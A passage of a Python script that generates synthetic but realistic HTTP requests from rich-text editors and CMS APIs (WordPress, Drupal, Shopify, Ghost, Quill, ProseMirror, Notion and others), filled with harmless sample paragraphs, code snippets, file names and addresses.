    ("elixir", "defmodule Greeter do\n  def hello(name) when is_binary(name) do\n    \"Hello, #{name}!\"\n  end\nend\n\nIO.puts Greeter.hello(\"world\")"),
    ("dockerfile", "FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\nEXPOSE 8000\nCMD [\"gunicorn\", \"app:create_app()\", \"-b\", \"0.0.0.0:8000\"]"),
    ("diff", "--- a/src/config.rs\n+++ b/src/config.rs\n@@ -12,7 +12,7 @@ pub struct Config {\n-    pub timeout_ms: u32,\n+    pub timeout_ms: u64,\n     pub retries: u8,\n }"),
    ("toml", "[package]\nname = \"tinyhttp\"\nversion = \"0.3.1\"\nedition = \"2021\"\n\n[dependencies]\nserde = { version = \"1\", features = [\"derive\"] }\ntokio = { version = \"1\", features = [\"full\"] }"),
    ("php", "<?php\n\nnamespace App\\Http\\Controllers;\n\nclass PostController extends Controller\n{\n    public function show(Post $post)\n    {\n        return view('posts.show', ['post' => $post]);\n    }\n}"),
    ("html", "<nav class=\"breadcrumb\" aria-label=\"Breadcrumb\">\n  <ol>\n    <li><a href=\"/\">Home</a></li>\n    <li><a href=\"/docs/\">Docs</a></li>\n    <li aria-current=\"page\">Install</li>\n  </ol>\n</nav>"),
    ("r", "library(dplyr)\nsales %>%\n  filter(year >= 2020) %>%\n  group_by(region) %>%\n  summarise(total = sum(amount), n = n()) %>%\n  arrange(desc(total))"),
    ("scala", "case class Order(id: Long, items: List[Item]) {\n  def total: BigDecimal = items.map(i => i.price * i.qty).sum\n}\n\nval big = orders.filter(_.total > 100)"),
    ("lua", "local function greet(name)\n  return string.format(\"Hi, %s!\", name or \"stranger\")\nend\n\nprint(greet(\"Ana\"))"),
    ("csharp", "public async Task<IActionResult> Index(int page = 1)\n{\n    var posts = await _db.Posts\n        .OrderByDescending(p => p.PublishedAt)\n        .Skip((page - 1) * 20).Take(20)\n        .ToListAsync();\n    return View(posts);\n}"),
    ("powershell", "Get-ChildItem -Path .\\logs -Filter *.log |\n    Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } |\n    Remove-Item -WhatIf"),
    ("makefile", "CFLAGS ?= -O2 -Wall\n\nall: app\n\napp: main.o util.o\n\t$(CC) $(CFLAGS) -o $@ $^\n\nclean:\n\trm -f *.o app"),
    ("terraform", "resource \"aws_s3_bucket\" \"assets\" {\n  bucket = \"acme-static-assets\"\n  tags = {\n    Environment = \"prod\"\n    Team        = \"web\"\n  }\n}"),
]

IMG_FILENAMES = [
    "Mom's photo (1).jpg", "IMG_20240612_184233.jpg", "Screenshot 2024-06-14 at 10.22.31.png", "holiday & family 2023 (3).jpeg",
    "\u5199\u771f \u4eac\u90fd 2024.jpg", "\u65c5\u884c\u7167\u7247_\u6842\u6797 (2).png", "\ud504\ub85c\ud544 \uc0ac\uc9c4.jpg", "\u0444\u043e\u0442\u043e \u0441 \u0434\u0430\u0447\u0438.jpg",
    "\u0635\u0648\u0631\u0629 \u0627\u0644\u0639\u0627\u0626\u0644\u0629.jpg", "\u05ea\u05de\u05d5\u05e0\u05d4 \u05de\u05d4\u05d7\u05ea\u05d5\u05e0\u05d4.jpeg", "Caf\u00e9 de Flore - terrasse.jpg",
    "scan_0001 [final].png", "D\u00fcsseldorf R\u00fcckseite #2.jpg", "receipt-#4821 (copy).png", "logo v2.1 - FINAL (use this one).png",
    "\u0e23\u0e39\u0e1b\u0e07\u0e32\u0e19\u0e41\u0e15\u0e48\u0e07.jpg", "\u03a3\u03b1\u03bd\u03c4\u03bf\u03c1\u03af\u03bd\u03b7 2023.jpg", "\u00c7ocuklar bah\u00e7ede.jpg", "cover_art_50%_opacity.png",
]

DOC_FILENAMES = [
    "Q3 report (draft) v2.pdf", "Invoice_2024-06_M\u00fcller & S\u00f6hne.pdf", "CV - Ren\u00e9e O'Connor.docx", "\u4f1a\u8bae\u7eaa\u8981 2024\u5e746\u6708.docx",
    "\u0414\u043e\u0433\u043e\u0432\u043e\u0440 \u2116 15-2024.pdf", "minutes [board] 12.03.2024.odt", "Budget 2025 - 50% scenario.xlsx", "team offsite agenda (v3).pdf",
    "\u5951\u7d04\u66f8\uff08\u6848\uff09.pdf", "Lebenslauf J\u00fcrgen Wei\u00df.pdf", "tax return 2023 - Jos\u00e9 & Ana.pdf", "\u062a\u0642\u0631\u064a\u0631 \u0627\u0644\u0631\u0628\u0639 \u0627\u0644\u062b\u0627\u0644\u062b.pdf",
]

ADDRESSES = [
    ("Apt #4, 1/2 Main St.", "", "Springfield", "IL", "62704", "US"),
    ("221B Baker Street", "Flat 2", "London", "", "NW1 6XE", "GB"),
    ("Hauptstra\u00dfe 12a", "c/o M\u00fcller", "K\u00f6ln", "", "50667", "DE"),
    ("12 rue de l'\u00c9glise", "B\u00e2t. C, 3e \u00e9tage", "Saint-\u00c9tienne", "", "42000", "FR"),
    ("\u6771\u4eac\u90fd\u6e0b\u8c37\u533a\u795e\u5357\uff11\u2010\uff12\u2010\uff13", "\u30b5\u30f3\u30e9\u30a4\u30ba\u30de\u30f3\u30b7\u30e7\u30f3\uff14\uff10\uff15\u53f7", "\u6e0b\u8c37\u533a", "\u6771\u4eac\u90fd", "150-0041", "JP"),
    ("PO Box 1187", "Attn: Receiving Dept. (Bldg #7)", "Anchorage", "AK", "99501", "US"),
    ("Calle de Alcal\u00e1, 48, 3\u00ba izq.", "", "Madrid", "", "28014", "ES"),
    ("ul. \u017bo\u0142nierska 15/3", "", "Gda\u0144sk", "", "80-001", "PL"),
    ("1600 Amphitheatre Pkwy", "Suite #200 & 201", "Mountain View", "CA", "94043", "US"),
    ("\uc11c\uc6b8\ud2b9\ubcc4\uc2dc \uac15\ub0a8\uad6c \ud14c\ud5e4\ub780\ub85c 123", "4\uce35 (\uc5ed\uc0bc\ub3d9)", "\uc11c\uc6b8", "", "06236", "KR"),
    ("O'Connell Street Upper 45", "Unit 3 - rear entrance", "Dublin 1", "", "D01 F5P2", "IE"),
    ("Rua Augusta, 274 - 2\u00ba Dto", "", "Lisboa", "", "1100-053", "PT"),
]

# --------------------------------------------------------------------------
# Benign builders: documents in the shapes editors produce
# --------------------------------------------------------------------------

import html as _html


def esc(s):
    return _html.escape(s, quote=False)


def esca(s):
    return _html.escape(s, quote=True)


LINK_TARGETS = [
    "https://en.wikipedia.org/wiki/Sourdough", "https://www.bbc.co.uk/news/science-environment-12345678",
    "https://docs.python.org/3/library/itertools.html", "https://github.com/rust-lang/rust/issues/44265",
    "https://www.nytimes.com/2024/05/12/travel/lisbon-food.html", "https://maps.google.com/?q=Harbour+Road",
    "https://example.org/reports/2024/q3-summary.pdf", "https://developer.mozilla.org/en-US/docs/Web/CSS/grid",
    "https://www.gov.uk/bank-holidays", "mailto:events@rivertown-gazette.com", "tel:+441632960123",
    "https://www.youtube.com/watch?v=aqz-KE-bpKQ", "/blog/2024/06/behind-the-scenes", "#section-2",
]
YOUTUBE_IDS = ["aqz-KE-bpKQ", "jNQXAC9IVRw", "M7lc1UVf-VE", "ScMzIvxBSi4", "LXb3EKWsInQ"]
COLORS = ["rgb(224, 62, 45)", "rgb(53, 152, 219)", "rgb(22, 145, 121)", "#e67e23", "rgb(132, 63, 161)", "hsl(0, 75%, 60%)"]
IMAGES = [("/uploads/2024/06/harbour-sunset.jpg", "Sunset over the harbour"), ("/media/team-photo-2024.png", "The whole team at the offsite"),
          ("https://cdn.brightlane.co/img/chart-q3.svg", "Bar chart of Q3 revenue by region"),
          ("/wp-content/uploads/2024/05/sourdough-crumb-1024x768.jpg", "Open crumb of a sourdough loaf"),
          ("https://images.unsplash.com/photo-1500530855697-b586d89ba3ee?w=1200&q=80", "Mountain lake at dawn")]


def decorate(rng, text):
    """Wrap a word or two of a paragraph in inline markup, as users do."""
    t = esc(text)
    words = t.split(" ")
    if len(words) < 6:
        return t
    i = rng.randrange(1, len(words) - 3)
    kind = rng.choice(["strong", "em", "a", "color", "u", "code", "mark", "none", "none"])
    seg = " ".join(words[i:i + 2])
    if kind == "strong":
        seg = "<strong>%s</strong>" % seg
    elif kind == "em":
        seg = "<em>%s</em>" % seg
    elif kind == "u":
        seg = "<span style=\"text-decoration: underline;\">%s</span>" % seg
    elif kind == "code":
        seg = "<code>%s</code>" % seg
    elif kind == "mark":
        seg = "<mark class=\"marker-yellow\">%s</mark>" % seg
    elif kind == "a":
        href = rng.choice(LINK_TARGETS)
        tgt = " target=\"_blank\" rel=\"noopener noreferrer\"" if href.startswith("http") and rng.random() < 0.6 else ""
        seg = "<a href=\"%s\"%s>%s</a>" % (esca(href), tgt, seg)
    elif kind == "color":
        seg = "<span style=\"color: %s;\">%s</span>" % (rng.choice(COLORS), seg)
    words[i:i + 2] = [seg]
    return " ".join(words)


def html_article(rng, n=None, features=None):
    n = n or rng.randint(2, 5)
    paras = rng.sample(PARAS, n)
    features = features or rng.sample(["list", "table", "img", "mention", "youtube", "heading", "quote", "hr", "align"], rng.randint(1, 3))
    out = []
    if "heading" in features:
        out.append("<h2>%s</h2>" % esc(rng.choice(REVIEW_TITLES + TICKET_SUBJECTS)))
    for k, p in enumerate(paras):
        if "align" in features and k == 0:
            out.append("<p style=\"text-align: center;\">%s</p>" % decorate(rng, p))
        else:
            out.append("<p>%s</p>" % decorate(rng, p))
        if k == 0 and "mention" in features:
            nm = rng.choice(NAMES)
            uid = rng.randint(1000, 99999)
            out.append("<p>Thanks <span class=\"mention\" data-id=\"%d\" data-label=\"%s\" data-mention=\"@%s\" contenteditable=\"false\">@%s</span> for the help with this!</p>"
                       % (uid, esca(nm), esca(nm), esc(nm)))
        if k == 0 and "img" in features:
            src, alt = rng.choice(IMAGES)
            w = rng.choice([300, 480, 640, 800])
            out.append("<p><img src=\"%s\" alt=\"%s\" width=\"%d\" height=\"%d\" loading=\"lazy\"></p>" % (esca(src), esca(alt), w, w * 3 // 4))
        if k == 1 and "list" in features:
            tag = rng.choice(["ul", "ol"])
            items = rng.sample(["Bring a reusable bottle", "Confirm numbers by Friday", "Budget: $250 max", "Check the shared folder",
                                "Vegetarian & vegan options", "Parking at the back (free after 6 pm)", "Slides due 48 h before",
                                "Don't forget the extension cord!", "Agenda -> see below", "Q&A at the end"], 3)
            out.append("<%s>%s</%s>" % (tag, "".join("<li>%s</li>" % esc(x) for x in items), tag))
        if k == 1 and "table" in features:
            out.append("<table style=\"border-collapse: collapse; width: 100%;\" border=\"1\"><thead><tr><th>Item</th><th>Qty</th><th>Price</th></tr></thead><tbody>"
                       "<tr><td>Coffee (1 kg)</td><td>2</td><td>$18.50</td></tr><tr><td>Milk &amp; oat milk</td><td>6</td><td>$11.94</td></tr>"
                       "<tr><td>Cups (pack of 50)</td><td>1</td><td>$4.99</td></tr></tbody></table>")
        if k == n - 1 and "youtube" in features:
            vid = rng.choice(YOUTUBE_IDS)
            out.append("<p><iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/%s\" title=\"YouTube video player\" frameborder=\"0\" "
                       "allow=\"accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share\" "
                       "referrerpolicy=\"strict-origin-when-cross-origin\" allowfullscreen></iframe></p>" % vid)
        if k == n - 1 and "quote" in features:
            out.append("<blockquote><p>%s</p></blockquote>" % esc(rng.choice(COMMENTS)))
        if k == 0 and "hr" in features:
            out.append("<hr>")
    return "\n".join(out) if rng.random() < 0.5 else "".join(out)


def gen_rte_html(c):
    rng = c.rng
    L = "rte-html"
    for i in range(52):
        doc = html_article(rng)
        title = rng.choice(REVIEW_TITLES + TICKET_SUBJECTS + ["Weekly update", "Notes from the offsite", "Summer newsletter", "Release notes 4.2"])
        mode = i % 8
        if mode == 0:  # WordPress classic editor (TinyMCE)
            pid = rng.randint(100, 9000)
            nonce = rand_hex(rng, 10)
            c.form_post(L, None, "blog.fernhill-studio.com", "/wp-admin/post.php",
                        [("_wpnonce", nonce), ("_wp_http_referer", "/wp-admin/post.php?post=%d&action=edit" % pid), ("user_ID", "3"),
                         ("action", "editpost"), ("originalaction", "editpost"), ("post_author", "3"), ("post_type", "post"),
                         ("original_post_status", "draft"), ("referredby", "https://blog.fernhill-studio.com/wp-admin/edit.php"),
                         ("auto_draft", ""), ("post_ID", str(pid)), ("post_title", title), ("content", doc),
                         ("wp-preview", ""), ("hidden_post_status", "draft"), ("post_status", "draft"), ("visibility", "public"),
                         ("post_category[]", "0"), ("post_category[]", str(rng.randint(2, 30))), ("tax_input[post_tag]", "news, community"),
                         ("excerpt", ""), ("save", "Save Draft")],
                        extra=[("Referer", "https://blog.fernhill-studio.com/wp-admin/post.php?post=%d&action=edit" % pid)])
        elif mode == 1:  # CKEditor 5 in Drupal: multipart node form
            nid = rng.randint(10, 900)
            c.upload(L, None, "www.northbank-council.gov.uk", "/node/%d/edit?destination=/admin/content" % nid,
                     [("changed", str(rng.randint(1700000000, 1720000000))), ("title[0][value]", title),
                      ("body[0][summary]", ""), ("body[0][value]", doc), ("body[0][format]", "basic_html"),
                      ("form_build_id", "form-" + rand_token(rng, 43, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")),
                      ("form_token", rand_token(rng, 43, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_")),
                      ("form_id", "node_article_edit_form"), ("status[value]", "1"), ("op", "Save")],
                     accept=ACCEPT_HTML)
        elif mode == 2:  # TinyMCE in a SaaS knowledge base
            c.json_req(L, None, "PUT", "kb.brightlane.co", "/api/v2/articles/%d" % rng.randint(1000, 9999),
                       {"title": title, "body_html": doc, "locale": "en-us", "draft": rng.random() < 0.5,
                        "label_names": rng.sample(["billing", "onboarding", "faq", "mobile", "api"], 2)},
                       extra=[("X-CSRF-Token", rand_token(rng, 44))])
        elif mode == 3:  # Ghost admin API
            c.json_req(L, None, "PUT", "journal.saltmarsh.org", "/ghost/api/admin/posts/%s/?source=html" % rand_hex(rng, 24),
                       {"posts": [{"title": title, "html": doc, "status": "draft", "updated_at": "2024-06-%02dT%02d:%02d:11.000Z" % (rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59)),
                                   "tags": [{"name": "Community"}], "custom_excerpt": None}]},
                       extra=[("X-Ghost-Version", "5.87"), ("App-Pragma", "no-cache")])
        elif mode == 4:  # Shopify product description
            pid = rng.randint(10**12, 10**13)
            c.json_req(L, None, "PUT", "mapleandoak.myshopify.com", "/admin/api/2024-04/products/%d.json" % pid,
                       {"product": {"id": pid, "title": rng.choice(["Linen Apron - Sage", "Oak Serving Board (Large)", "Hand-thrown Mug, 350 ml", "Wool Throw 130x170 cm"]),
                                    "body_html": doc, "vendor": "Maple & Oak", "product_type": "Home"}},
                       extra=[("X-Shopify-Access-Token", "shpat_" + rand_hex(rng, 32))], origin=False)
        elif mode == 5:  # Summernote forum reply (form)
            c.form_post(L, None, "forum.vintage-radio.club", "/thread/%d/reply" % rng.randint(100, 50000),
                        [("csrf_token", rand_token(rng, 40)), ("message", doc), ("subscribe", "1"), ("submit", "Post reply")])
        elif mode == 6:  # Froala notes
            c.json_req(L, None, "POST", "notes.inkwell.app", "/api/notes",
                       {"notebookId": rand_uuid(rng), "title": title, "content": doc, "pinned": False, "color": rng.choice(["#ffffff", "#fff8b8", "#d7aefb"])})
        else:  # CKEditor 4 in a school intranet (form, with entities)
            doc2 = doc.replace("\u00a0", "&nbsp;").replace("\u2014", "&mdash;")
            c.form_post(L, None, "intranet.stmarys-school.ie", "/news/edit.aspx?id=%d" % rng.randint(1, 800),
                        [("__VIEWSTATE", base64.b64encode(bytes(rng.randrange(256) for _ in range(60))).decode()), ("__EVENTVALIDATION", base64.b64encode(bytes(rng.randrange(256) for _ in range(24))).decode()),
                         ("ctl00$Main$txtTitle", title), ("ctl00$Main$editor1", doc2), ("ctl00$Main$btnSave", "Save")])


def quill_delta(rng, paras):
    ops = []
    for p in paras:
        words = p.split(" ")
        if len(words) > 8 and rng.random() < 0.6:
            cut = rng.randrange(2, len(words) - 3)
            ops.append({"insert": " ".join(words[:cut]) + " "})
            attr = rng.choice([{"bold": True}, {"italic": True}, {"link": rng.choice(LINK_TARGETS[:9])}, {"color": "#e60000"}, {"background": "#ffff00"}, {"underline": True}])
            ops.append({"insert": " ".join(words[cut:cut + 2]), "attributes": attr})
            ops.append({"insert": " " + " ".join(words[cut + 2:]) + "\n"})
        else:
            ops.append({"insert": p + "\n"})
    if rng.random() < 0.5:
        for item in rng.sample(["milk", "eggs (free range)", "flour - 2 kg", "coffee!!", "call the plumber"], 3):
            ops.append({"insert": item})
            ops.append({"insert": "\n", "attributes": {"list": rng.choice(["bullet", "checked", "unchecked"])}})
    if rng.random() < 0.3:
        ops.append({"insert": {"image": rng.choice(IMAGES)[0]}})
        ops.append({"insert": "\n"})
    if rng.random() < 0.2:
        ops.append({"insert": {"video": "https://www.youtube.com/embed/" + rng.choice(YOUTUBE_IDS)}})
        ops.append({"insert": "\n"})
    if rng.random() < 0.3:
        lang, code = rng.choice(CODE_SNIPPETS[:8])
        for line in code.split("\n"):
            ops.append({"insert": line})
            ops.append({"insert": "\n", "attributes": {"code-block": lang}})
    return {"ops": ops}


def pm_text(rng, text):
    words = text.split(" ")
    if len(words) > 8 and rng.random() < 0.6:
        cut = rng.randrange(2, len(words) - 3)
        mark = rng.choice([{"type": "bold"}, {"type": "italic"}, {"type": "link", "attrs": {"href": rng.choice(LINK_TARGETS[:9]), "target": "_blank", "rel": "noopener noreferrer nofollow", "class": None}},
                           {"type": "code"}, {"type": "highlight", "attrs": {"color": "#fef08a"}}])
        return [{"type": "text", "text": " ".join(words[:cut]) + " "},
                {"type": "text", "marks": [mark], "text": " ".join(words[cut:cut + 2])},
                {"type": "text", "text": " " + " ".join(words[cut + 2:])}]
    return [{"type": "text", "text": text}]


def prosemirror_doc(rng, paras):
    content = [{"type": "heading", "attrs": {"level": 2}, "content": [{"type": "text", "text": rng.choice(REVIEW_TITLES + TICKET_SUBJECTS)}]}]
    for p in paras:
        content.append({"type": "paragraph", "content": pm_text(rng, p)})
    r = rng.random()
    if r < 0.3:
        content.append({"type": "taskList", "content": [{"type": "taskItem", "attrs": {"checked": rng.random() < 0.5},
                        "content": [{"type": "paragraph", "content": [{"type": "text", "text": t}]}]} for t in rng.sample(["Draft the agenda", "Book the room", "Order pizza \U0001F355", "Send the invite", "Review Q3 numbers"], 3)]})
    elif r < 0.55:
        lang, code = rng.choice(CODE_SNIPPETS)
        content.append({"type": "codeBlock", "attrs": {"language": lang}, "content": [{"type": "text", "text": code}]})
    elif r < 0.7:
        nm = rng.choice(NAMES)
        content.append({"type": "paragraph", "content": [{"type": "text", "text": "cc "}, {"type": "mention", "attrs": {"id": str(rng.randint(100, 9999)), "label": nm}}, {"type": "text", "text": " \u2014 can you double-check the figures?"}]})
    elif r < 0.85:
        src, alt = rng.choice(IMAGES)
        content.append({"type": "image", "attrs": {"src": src, "alt": alt, "title": None, "width": 640}})
    else:
        content.append({"type": "blockquote", "content": [{"type": "paragraph", "content": [{"type": "text", "text": rng.choice(COMMENTS)}]}]})
    return {"type": "doc", "content": content}


def draft_raw(rng, paras):
    blocks, emap = [], {}
    for k, p in enumerate(paras):
        ranges, eranges = [], []
        if len(p) > 30 and rng.random() < 0.5:
            ranges.append({"offset": 0, "length": min(12, len(p)), "style": rng.choice(["BOLD", "ITALIC", "UNDERLINE"])})
        if len(p) > 40 and rng.random() < 0.4:
            key = len(emap)
            emap[str(key)] = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": rng.choice(LINK_TARGETS[:9])}}
            eranges.append({"offset": 20, "length": 10, "key": key})
        blocks.append({"key": rand_token(rng, 5, "abcdefghijklmnopqrstuvwxyz0123456789"), "text": p,
                       "type": rng.choice(["unstyled", "unstyled", "unstyled", "header-two", "blockquote", "unordered-list-item"]) if k else "unstyled",
                       "depth": 0, "inlineStyleRanges": ranges, "entityRanges": eranges, "data": {}})
    return {"blocks": blocks, "entityMap": emap}


def slate_value(rng, paras):
    val = []
    for p in paras:
        words = p.split(" ")
        if len(words) > 8 and rng.random() < 0.5:
            cut = rng.randrange(2, len(words) - 3)
            kids = [{"text": " ".join(words[:cut]) + " "}, {"text": " ".join(words[cut:cut + 2]), rng.choice(["bold", "italic", "underline", "code"]): True},
                    {"text": " " + " ".join(words[cut + 2:])}]
        elif len(words) > 8 and rng.random() < 0.4:
            kids = [{"text": " ".join(words[:4]) + " "}, {"type": "link", "url": rng.choice(LINK_TARGETS[:9]), "children": [{"text": " ".join(words[4:6])}]}, {"text": " " + " ".join(words[6:])}]
        else:
            kids = [{"text": p}]
        val.append({"type": rng.choice(["paragraph", "paragraph", "block-quote", "heading-two"]), "children": kids})
    return val


def editorjs(rng, paras):
    blocks = [{"id": rand_token(rng, 10), "type": "header", "data": {"text": esc(rng.choice(REVIEW_TITLES)), "level": 2}}]
    for p in paras:
        blocks.append({"id": rand_token(rng, 10), "type": "paragraph", "data": {"text": decorate(rng, p)}})
    extra = rng.choice(["list", "code", "image", "checklist", "table", "quote", "embed"])
    if extra == "list":
        blocks.append({"id": rand_token(rng, 10), "type": "list", "data": {"style": "unordered", "items": ["Preheat to 180\u00b0C", "Mix dry &amp; wet separately", "Bake 25-30 min"]}})
    elif extra == "code":
        lang, code = rng.choice(CODE_SNIPPETS)
        blocks.append({"id": rand_token(rng, 10), "type": "code", "data": {"code": code}})
    elif extra == "image":
        src, alt = rng.choice(IMAGES)
        blocks.append({"id": rand_token(rng, 10), "type": "image", "data": {"file": {"url": "https://cdn.inkwell.app" + src if src.startswith("/") else src}, "caption": alt, "withBorder": False, "stretched": False, "withBackground": False}})
    elif extra == "checklist":
        blocks.append({"id": rand_token(rng, 10), "type": "checklist", "data": {"items": [{"text": "Buy tickets", "checked": True}, {"text": "Book hotel (2 nights)", "checked": False}]}})
    elif extra == "table":
        blocks.append({"id": rand_token(rng, 10), "type": "table", "data": {"withHeadings": True, "content": [["City", "Nights", "Budget"], ["Porto", "3", "\u20ac420"], ["Lisbon", "4", "\u20ac610"]]}})
    elif extra == "quote":
        blocks.append({"id": rand_token(rng, 10), "type": "quote", "data": {"text": esc(rng.choice(COMMENTS)), "caption": esc(rng.choice(NAMES)), "alignment": "left"}})
    else:
        vid = rng.choice(YOUTUBE_IDS)
        blocks.append({"id": rand_token(rng, 10), "type": "embed", "data": {"service": "youtube", "source": "https://www.youtube.com/watch?v=" + vid,
                       "embed": "https://www.youtube.com/embed/" + vid, "width": 580, "height": 320, "caption": ""}})
    return {"time": rng.randint(1700000000000, 1720000000000), "blocks": blocks, "version": "2.29.1"}


def lexical_state(rng, paras):
    kids = []
    for p in paras:
        t = [{"detail": 0, "format": 0, "mode": "normal", "style": "", "text": p, "type": "text", "version": 1}]
        if rng.random() < 0.4:
            t.append({"children": [{"detail": 0, "format": 0, "mode": "normal", "style": "", "text": "more here", "type": "text", "version": 1}],
                      "direction": "ltr", "format": "", "indent": 0, "type": "link", "version": 1, "rel": "noreferrer", "target": None, "title": None,
                      "url": rng.choice(LINK_TARGETS[:9])})
        kids.append({"children": t, "direction": "ltr", "format": "", "indent": 0, "type": "paragraph", "version": 1, "textFormat": 0})
    if rng.random() < 0.4:
        kids.append({"children": [{"detail": 0, "format": 1, "mode": "normal", "style": "color: #d0021b;", "text": "Deadline: Friday 17:00", "type": "text", "version": 1}],
                     "direction": "ltr", "format": "", "indent": 0, "type": "paragraph", "version": 1})
    return {"root": {"children": kids, "direction": "ltr", "format": "", "indent": 0, "type": "root", "version": 1}}


def notion_blocks(rng, paras):
    def rt(text, link=None, ann=None):
        return {"type": "text", "text": {"content": text, "link": {"url": link} if link else None},
                "annotations": ann or {"bold": False, "italic": False, "strikethrough": False, "underline": False, "code": False, "color": "default"}}
    out = []
    for p in paras:
        out.append({"object": "block", "type": "paragraph", "paragraph": {"rich_text": [rt(p)]}})
    kind = rng.choice(["todo", "callout", "bookmark", "code", "toggle"])
    if kind == "todo":
        out.append({"object": "block", "type": "to_do", "to_do": {"rich_text": [rt("Email the venue re: deposit")], "checked": False}})
    elif kind == "callout":
        out.append({"object": "block", "type": "callout", "callout": {"rich_text": [rt("Office closed 24-26 Dec \U0001F384")], "icon": {"emoji": "\U0001F4A1"}, "color": "yellow_background"}})
    elif kind == "bookmark":
        out.append({"object": "block", "type": "bookmark", "bookmark": {"url": rng.choice(LINK_TARGETS[:9]), "caption": []}})
    elif kind == "code":
        lang, code = rng.choice(CODE_SNIPPETS)
        out.append({"object": "block", "type": "code", "code": {"rich_text": [rt(code)], "language": lang}})
    else:
        out.append({"object": "block", "type": "toggle", "toggle": {"rich_text": [rt("Meeting notes (click to expand)", ann={"bold": True, "italic": False, "strikethrough": False, "underline": False, "code": False, "color": "gray"})]}})
    return {"children": out}


def gen_rte_json(c):
    rng = c.rng
    L = "rte-json"
    for i in range(56):
        paras = rng.sample(PARAS + COMMENTS[:30], rng.randint(1, 4))
        if rng.random() < 0.25:
            paras[0] = rng.choice(I18N)[1]
        kind = i % 8
        if kind == 0:
            c.json_req(L, None, "POST", "app.clearpath-tasks.com", "/api/tasks/%d/comments" % rng.randint(1000, 99999),
                       {"delta": quill_delta(rng, paras), "mentions": []})
        elif kind == 1:
            c.json_req(L, None, "PATCH", "docs.tessellate.so", "/api/documents/%s" % rand_uuid(rng),
                       {"title": rng.choice(REVIEW_TITLES + TICKET_SUBJECTS), "content": prosemirror_doc(rng, paras), "version": rng.randint(2, 300)},
                       extra=[("X-Requested-With", "XMLHttpRequest")])
        elif kind == 2:
            c.json_req(L, None, "POST", "hub.kestrel-media.net", "/graphql",
                       {"operationName": "SaveDraft", "variables": {"id": str(rng.randint(10000, 99999)), "raw": jdump(draft_raw(rng, paras))},
                        "query": "mutation SaveDraft($id: ID!, $raw: String!) { saveDraft(id: $id, raw: $raw) { id updatedAt } }"})
        elif kind == 3:
            c.json_req(L, None, "PUT", "wiki.pinecrest.dev", "/api/pages/%d/body" % rng.randint(1, 5000),
                       {"format": "slate", "value": slate_value(rng, paras)})
        elif kind == 4:
            c.json_req(L, None, "POST", "cms.lighthouse-press.org", "/api/articles/%d/content" % rng.randint(1, 9000), editorjs(rng, paras))
        elif kind == 5:
            c.json_req(L, None, "PUT", "portal.brightlane.co", "/api/v1/posts/%d" % rng.randint(1, 9999),
                       {"editorState": jdump(lexical_state(rng, paras)), "plainText": "\n\n".join(paras)})
        elif kind == 6:
            c.json_req(L, None, "PATCH", "api.inkwell.app", "/v1/blocks/%s/children" % rand_uuid(rng), notion_blocks(rng, paras),
                       extra=[("Notion-Version", "2022-06-28"), ("Authorization", "Bearer secret_" + rand_token(rng, 43))], origin=False)
        else:  # Tiptap JSON from a chat app with ascii-escaped JSON (Python client)
            c.json_req(L, None, "POST", "chat.teamharbor.io", "/api/v4/posts",
                       {"channel_id": rand_token(rng, 26, "abcdefghijklmnopqrstuvwxyz0123456789"), "message": paras[0],
                        "props": {"tiptap": prosemirror_doc(rng, paras)}}, ascii_only=True)


def gutenberg(rng, paras):
    out = []
    for k, p in enumerate(paras):
        out.append("<!-- wp:paragraph -->\n<p>%s</p>\n<!-- /wp:paragraph -->" % decorate(rng, p))
        if k == 0 and rng.random() < 0.5:
            iid = rng.randint(100, 9999)
            src, alt = rng.choice(IMAGES)
            out.append("<!-- wp:image {\"id\":%d,\"sizeSlug\":\"large\",\"linkDestination\":\"none\"} -->\n<figure class=\"wp-block-image size-large\"><img src=\"%s\" alt=\"%s\" class=\"wp-image-%d\"/><figcaption class=\"wp-element-caption\">%s</figcaption></figure>\n<!-- /wp:image -->"
                       % (iid, esca(src), esca(alt), iid, esc(alt)))
        if k == 0 and rng.random() < 0.4:
            out.append("<!-- wp:heading {\"level\":3} -->\n<h3 class=\"wp-block-heading\">%s</h3>\n<!-- /wp:heading -->" % esc(rng.choice(REVIEW_TITLES)))
    r = rng.random()
    if r < 0.3:
        vid = rng.choice(YOUTUBE_IDS)
        out.append("<!-- wp:embed {\"url\":\"https://www.youtube.com/watch?v=%s\",\"type\":\"video\",\"providerNameSlug\":\"youtube\",\"responsive\":true,\"className\":\"wp-embed-aspect-16-9 wp-has-aspect-ratio\"} -->\n<figure class=\"wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 wp-has-aspect-ratio\"><div class=\"wp-block-embed__wrapper\">\nhttps://www.youtube.com/watch?v=%s\n</div></figure>\n<!-- /wp:embed -->" % (vid, vid))
    elif r < 0.5:
        out.append("<!-- wp:list -->\n<ul><!-- wp:list-item -->\n<li>Doors open 6:30 pm</li>\n<!-- /wp:list-item -->\n\n<!-- wp:list-item -->\n<li>Tickets &amp; info at the door</li>\n<!-- /wp:list-item --></ul>\n<!-- /wp:list -->")
    elif r < 0.7:
        lang, code = rng.choice(CODE_SNIPPETS)
        out.append("<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>%s</code></pre>\n<!-- /wp:code -->" % esc(code))
    elif r < 0.85:
        out.append("<!-- wp:quote -->\n<blockquote class=\"wp-block-quote\"><!-- wp:paragraph -->\n<p>%s</p>\n<!-- /wp:paragraph --><cite>%s</cite></blockquote>\n<!-- /wp:quote -->" % (esc(rng.choice(COMMENTS)), esc(rng.choice(NAMES))))
    else:
        out.append("<!-- wp:buttons -->\n<div class=\"wp-block-buttons\"><!-- wp:button {\"backgroundColor\":\"vivid-red\"} -->\n<div class=\"wp-block-button\"><a class=\"wp-block-button__link has-vivid-red-background-color has-background wp-element-button\" href=\"/donate\">Donate</a></div>\n<!-- /wp:button --></div>\n<!-- /wp:buttons -->")
    return "\n\n".join(out)


def confluence(rng, paras):
    out = ["<p>%s</p>" % decorate(rng, p) for p in paras]
    r = rng.random()
    if r < 0.25:
